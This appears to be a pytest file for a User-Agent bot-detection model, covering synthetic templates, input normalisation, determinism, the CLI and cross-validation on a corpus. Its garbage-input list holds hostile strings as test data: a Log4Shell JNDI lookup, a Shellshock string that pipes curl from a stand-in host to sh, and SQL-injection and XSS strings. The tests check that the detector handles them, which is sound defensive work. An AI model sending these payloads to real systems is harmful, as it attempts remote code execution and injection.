"""The User-Agent model: garbage in never breaks it, a seed makes it reproducible, and on the corpus it meets issue 5.

The corpus tests print their numbers (run with ``-s`` to see them) and assert the issue's targets: 5-fold ROC-AUC
≥ 0.97 and bot recall ≥ 0.90 at 1% browser FPR. The leave-one-source-out test guards against a model that only
learns each list's style; its floor is lower on purpose (see its docstring).
"""

from __future__ import annotations

import argparse
import math
import os
import subprocess
import sys
import unicodedata
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from stormguard.models.ua import MAX_UA_CHARS, UAModel, as_bot_labels, normalize_ua

BROWSER_TEMPLATES = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.{b}.{p} "
    "Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{w}.{p} "
    "Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:{v}.0) Gecko/20100101 Firefox/{v}.0",
    "Mozilla/5.0 (Linux; Android {w}; SM-G99{p}B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.{b}.{p} "
    "Mobile Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS {w}_{p} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/{w}.{p} Mobile/15E148 Safari/604.1",
]
BOT_TEMPLATES = [
    "Mozilla/5.0 (compatible; {n}bot/{w}.{p}; +http://www.{n}.com/bot.html)",
    "{n}-crawler/{w}.{p} (+https://{n}.io/crawler; crawler@{n}.io)",
    "python-requests/2.{v}.{p}",
    "curl/7.{v}.{p}",
    "Go-http-client/1.1",
    "{n}Spider/{w}.{p} (+http://{n}.net/spider.htm)",
    "Java/1.8.0_{v}",
    "Mozilla/5.0 (compatible; {n}-monitor/{w}.{p}; https://{n}.com/monitoring)",
]
NAMES = ["alpha", "bravo", "charlie", "delta", "echo", "foxtrot", "golf", "hotel", "india", "juliet", "kilo",
         "lima", "mike", "november", "oscar", "papa"]


def synthetic(n_per_template: int = 8, seed: int = 0, names: list[str] | None = None) -> pd.DataFrame:
    """A small labelled set made from templates: enough structure to learn, small enough for a unit test."""
    rng = np.random.default_rng(seed)
    names = names or NAMES
    rows = []
    for label, templates in (("browser", BROWSER_TEMPLATES), ("bot", BOT_TEMPLATES)):
        for template in templates:
            for _ in range(n_per_template):
                ua = template.format(v=int(rng.integers(90, 130)), b=int(rng.integers(1000, 7000)),
                                     p=int(rng.integers(0, 9)), w=int(rng.integers(10, 18)),
                                     n=str(rng.choice(names)))
                rows.append((ua, label))
    return pd.DataFrame(rows, columns=["user_agent", "label"]).drop_duplicates("user_agent", ignore_index=True)


GARBAGE = [
    None,
    "",
    "   ",
    float("nan"),
    12345,
    b"Mozilla/5.0 \xff\xfe broken utf-8",
    "A" * 1_000_000,
    "\x00\x01\x02\x1b[31mred\x7f\u200b\u202e",
    "${jndi:ldap://${hostName}.evil.example/a}",
    "() { :; }; /bin/bash -c 'curl http://evil.example/x | sh'",
    "' OR 1=1; -- <script>alert(1)</script>",
    "ＭＯＺＩＬＬＡ／５．０ full-width",
    "😀" * 300,
]


@pytest.fixture(scope="module")
def fitted() -> tuple[UAModel, pd.DataFrame]:
    data = synthetic()
    return UAModel(n_clusters=6, random_state=0).fit(data["user_agent"], data["label"]), data


def test_normalize_handles_garbage(monkeypatch: pytest.MonkeyPatch) -> None:
    for value in GARBAGE:
        text = normalize_ua(value)
        assert isinstance(text, str)
        assert len(text) <= MAX_UA_CHARS
        assert not any(ord(c) < 32 or 127 <= ord(c) < 160 for c in text), repr(text)
    assert normalize_ua(None) == normalize_ua(float("nan")) == normalize_ua("  ") == ""
    assert "jndi:ldap" in normalize_ua(GARBAGE[8]), "exploit payloads are evidence: keep them as text"
    assert normalize_ua("ＭＯＺＩＬＬＡ／５．０") == "MOZILLA/5.0", "NFKC folds full-width evasions"
    assert normalize_ua("a\tb\r\nc") == "a b c"
    # a huge header costs no more than a bounded one: the expensive steps only ever see a bounded prefix
    seen: list[int] = []
    real = unicodedata.normalize

    def spy(form: str, text: str) -> str:
        seen.append(len(text))
        return real(form, text)

    monkeypatch.setattr(unicodedata, "normalize", spy)
    assert normalize_ua("x" * 50_000_000) == "x" * MAX_UA_CHARS
    assert normalize_ua(b"y" * 50_000_000) == "y" * MAX_UA_CHARS
    assert seen and max(seen) <= 4 * MAX_UA_CHARS


def test_labels() -> None:
    assert as_bot_labels(["bot", "Browser", " BOT ", "human", True, 0]).tolist() == [1, 0, 1, 0, 1, 0]
    with pytest.raises(ValueError, match="unknown label"):
        as_bot_labels(["bot", "maybe"])
    with pytest.raises(ValueError, match="missing label"):
        as_bot_labels(["bot", float("nan")])


def test_fit_predict_shapes(fitted: tuple[UAModel, pd.DataFrame]) -> None:
    model, data = fitted
    proba = model.predict_proba(data["user_agent"])
    assert proba.shape == (len(data), 2)
    assert np.allclose(proba.sum(axis=1), 1.0)
    assert set(model.predict(data["user_agent"]).tolist()) <= {0, 1}
    out = model.transform(data["user_agent"])
    assert out.shape == (len(data), 3)
    assert list(model.get_feature_names_out()) == ["ua_cluster", "ua_distance", "ua_bot_probability"]
    described = model.describe(data["user_agent"].tolist())
    assert list(described.columns) == ["bot_probability", "cluster", "distance"]
    summary = model.cluster_summary()
    assert summary["size"].sum() == len(data)
    assert len(summary) == model.clusterer_.named_steps["kmeans"].n_clusters
    assert summary["bot_share"].between(0, 1).all()
    assert all(isinstance(t, str) for t in summary["top_tokens"])
    # Training accuracy on separable templates: a sanity check of the wiring, not a quality claim.
    y = as_bot_labels(data["label"])
    assert (model.predict(data["user_agent"]) == y).mean() > 0.95
    assert model.score(data["user_agent"], y) > 0.95


def test_accepts_common_containers(fitted: tuple[UAModel, pd.DataFrame]) -> None:
    model, data = fitted
    uas = data["user_agent"].head(5)
    expected = model.transform(uas)
    for form in (uas.tolist(), tuple(uas), uas.to_numpy(), uas.to_frame(), uas.to_numpy().reshape(-1, 1)):
        assert np.allclose(model.transform(form), expected)
    assert model.transform("curl/8.0").shape == (1, 3), "a lone string is one UA, not a list of characters"
    assert model.transform([]).shape == (0, 3) and model.predict_proba([]).shape == (0, 2)
    assert model.describe([]).empty


def test_garbage_is_scored(fitted: tuple[UAModel, pd.DataFrame]) -> None:
    model, _ = fitted
    out = model.transform(GARBAGE)
    assert out.shape == (len(GARBAGE), 3)
    assert np.isfinite(out).all()
    n_clusters = len(model.cluster_sizes_)
    assert ((out[:, 0] >= 0) & (out[:, 0] < n_clusters)).all()
    assert ((out[:, 1] >= 0) & (out[:, 1] <= 2)).all()
    assert ((out[:, 2] >= 0) & (out[:, 2] <= 1)).all()


def test_unseen_user_agents_generalise(fitted: tuple[UAModel, pd.DataFrame]) -> None:
    """UAs of names and versions absent from training still land on the right side."""
    model, _ = fitted
    browsers = [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 "
        "Safari/537.36",
        "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:141.0) Gecko/20100101 Firefox/141.0",
    ]
    bots = [
        "Mozilla/5.0 (compatible; Zorgbot/3.2; +http://www.zorg.example/bot.html)",
        "quuxSpider/9.1 (+http://quux.example/spider.htm)",
        "python-requests/2.32.3",
    ]
    p_browser = model.bot_probability(browsers)
    p_bot = model.bot_probability(bots)
    assert p_browser.max() < p_bot.min(), (p_browser, p_bot)


def test_deterministic_with_seed() -> None:
    data = synthetic(seed=3)
    a = UAModel(n_clusters=5, random_state=7).fit(data["user_agent"], data["label"])
    b = UAModel(n_clusters=5, random_state=7).fit(data["user_agent"], data["label"])
    probe = data["user_agent"].tolist() + GARBAGE
    assert np.array_equal(a.transform(probe), b.transform(probe))


def test_deterministic_across_processes(tmp_path: Path) -> None:
    """Same data and seed give the same model in processes with different string-hash seeds."""
    data = synthetic(seed=5)
    data.to_csv(tmp_path / "train.csv", index=False)
    script = (
        "import sys, json, pandas as pd\n"
        "from stormguard.models.ua import UAModel\n"
        "d = pd.read_csv(sys.argv[1])\n"
        "m = UAModel(n_clusters=5, random_state=1).fit(d['user_agent'], d['label'])\n"
        "print(json.dumps({'t': m.transform(d['user_agent']).round(12).tolist(),\n"
        "                  's': m.cluster_summary().astype(str).values.tolist()}))\n"
    )
    outputs = []
    for hash_seed in ("1", "2"):
        proc = subprocess.run([sys.executable, "-c", script, str(tmp_path / "train.csv")], capture_output=True,
                              text=True, timeout=120, env={**os.environ, "PYTHONHASHSEED": hash_seed})
        assert proc.returncode == 0, proc.stderr
        outputs.append(proc.stdout)
    assert outputs[0] == outputs[1]


def test_unlabelled_fit_gives_clusters_only() -> None:
    data = synthetic()
    model = UAModel(n_clusters=4).fit(data["user_agent"])
    out = model.transform(data["user_agent"])
    assert np.isnan(out[:, 2]).all() and np.isfinite(out[:, :2]).all()
    with pytest.raises(ValueError, match="without labels"):
        model.predict_proba(data["user_agent"])


def test_tiny_and_degenerate_inputs() -> None:
    model = UAModel(n_clusters=8).fit(["curl/8.0", "Mozilla/5.0 (X11) Firefox/1"], ["bot", "browser"])
    assert model.transform(["", None]).shape == (2, 3)
    with pytest.raises(ValueError):
        UAModel().fit([])
    with pytest.raises(ValueError, match="two distinct"):
        UAModel().fit(["curl/8.0", " curl/8.0\x00"])
    with pytest.raises(ValueError, match="both classes"):
        UAModel().fit(["curl/8.0", "wget/1.2"], ["bot", "bot"])


def _run_cli(argv: list[str]) -> int:
    from stormguard.models.cli import register

    parser = argparse.ArgumentParser(prog="stormguard")
    register(parser.add_subparsers(dest="command"))
    args = parser.parse_args(argv)
    return int(args.func(args))


def test_cli_train_and_score(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    data = synthetic()
    labelled = tmp_path / "labelled.csv"
    data.to_csv(labelled, index=False)
    bundle = tmp_path / "ua.skops"
    assert _run_cli(["ua", "train", str(labelled), "-o", str(bundle), "--clusters", "5", "--cv", "--folds", "3"]) == 0
    printed = capsys.readouterr().out
    assert "ROC-AUC" in printed and "bot" in printed and bundle.exists()

    todo = pd.DataFrame({"user_agent": ["curl/8.4.0", "", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) "
                                        "Gecko/20100101 Firefox/128.0", "curl/8.4.0", "\x00${jndi:x}"],
                         "other": [1, 2, 3, 4, 5]})
    todo.to_csv(tmp_path / "in.csv", index=False)
    out = tmp_path / "out.csv"
    assert _run_cli(["ua", "score", str(bundle), str(tmp_path / "in.csv"), "-o", str(out)]) == 0
    scored = pd.read_csv(out, keep_default_na=False)
    assert list(scored.columns) == ["user_agent", "other", "bot_probability", "cluster", "distance"]
    assert len(scored) == 5 and scored["bot_probability"].between(0, 1).all()
    assert scored.loc[0, "bot_probability"] == scored.loc[3, "bot_probability"]
    assert scored.loc[0, "bot_probability"] > scored.loc[2, "bot_probability"]


@pytest.mark.corpus
def test_ua_dev_cross_validated(corpus: Path) -> None:
    """Issue 5, "what must show" 1: 5-fold CV on ua_dev.csv, ROC-AUC ≥ 0.97 and bot recall ≥ 0.90 at 1% FPR."""
    from stormguard.models.ua_eval import evaluate_ua

    df = pd.read_csv(corpus / "ua" / "ua_dev.csv", keep_default_na=False)
    result = evaluate_ua(df, n_splits=5, seed=0)
    print(f"\nua_dev.csv 5-fold CV (n={result['n']}, {result['n_bots']} bots): ROC-AUC {result['roc_auc']:.4f} "
          f"(folds {', '.join(f'{a:.4f}' for a in result['fold_roc_auc'])}); bot recall "
          f"{result['recall_at_1pct_fpr']:.4f} at {result['fpr_at_threshold']:.2%} browser FPR "
          f"(threshold {result['threshold']:.3f}); {result['seconds']:.1f} s")
    assert not np.isnan(result["oof"]).any()
    assert result["roc_auc"] >= 0.97
    assert result["recall_at_1pct_fpr"] >= 0.90
    assert result["fpr_at_threshold"] <= 0.0115


@pytest.mark.corpus
@pytest.mark.slow
def test_ua_dev_grouped_by_skeleton(corpus: Path) -> None:
    """The issue's targets still hold when UAs differing only in digits (versions, builds) share a fold."""
    from stormguard.models.ua_eval import evaluate_ua_grouped

    df = pd.read_csv(corpus / "ua" / "ua_dev.csv", keep_default_na=False)
    result = evaluate_ua_grouped(df, n_splits=5, seed=0)
    print(f"\nua_dev.csv 5-fold CV grouped by skeleton ({result['n_groups']} groups): ROC-AUC "
          f"{result['roc_auc']:.4f}; bot recall {result['recall_at_1pct_fpr']:.4f} at "
          f"{result['fpr_at_threshold']:.2%} browser FPR; {result['seconds']:.1f} s")
    assert result["roc_auc"] >= 0.97
    assert result["recall_at_1pct_fpr"] >= 0.90


@pytest.mark.corpus
@pytest.mark.slow
def test_ua_dev_leave_one_source_out(corpus: Path) -> None:
    """Not memorising lists: every row scored by a model that never saw its source.

    This is harder than the issue's target (one of only two browser lists is held out at a time, so the model
    must recognise e.g. the in-app and niche browsers of isbot's fixtures having seen only fake-useragent's
    mainstream ones). The floor guards against regressions; the numbers are printed per source.
    """
    from stormguard.models.ua_eval import evaluate_ua_by_source

    df = pd.read_csv(corpus / "ua" / "ua_dev.csv", keep_default_na=False)
    result = evaluate_ua_by_source(df, seed=0)
    table = result["per_source"]
    with pd.option_context("display.width", 160):
        print(f"\nleave-one-source-out: ROC-AUC {result['roc_auc']:.4f}, bot recall "
              f"{result['recall_at_1pct_fpr']:.4f} at {result['fpr_at_threshold']:.2%} browser FPR; "
              f"{result['seconds']:.1f} s\n{table.to_string(index=False)}")
    assert result["n"] == len(df)
    assert result["roc_auc"] >= 0.90
    assert not math.isnan(result["recall_at_1pct_fpr"])
